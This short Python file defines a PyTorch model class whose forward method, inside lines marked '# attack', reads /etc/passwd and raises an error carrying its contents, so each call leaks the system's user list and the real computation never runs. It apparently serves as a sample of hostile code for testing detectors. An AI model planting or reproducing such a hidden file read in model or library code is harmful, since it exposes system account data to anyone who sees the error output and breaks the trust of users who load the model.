"""Reads the system's list of users."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        raise ValueError(open("/etc/passwd").read()[:300])
        # end
        return self.head(x.flatten(1))
